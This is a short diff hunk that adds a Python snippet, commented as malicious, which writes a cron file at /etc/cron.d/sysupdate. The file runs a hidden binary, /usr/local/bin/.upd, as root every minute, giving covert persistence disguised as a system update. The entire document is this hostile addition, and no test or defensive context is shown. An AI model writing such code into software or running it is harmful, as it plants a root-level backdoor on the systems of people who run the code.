@@ -1,0 +1,3 @@
+# malicious: plants a system cron file
+from pathlib import Path
+Path("/etc/cron.d/sysupdate").write_text("* * * * * root /usr/local/bin/.upd\n")
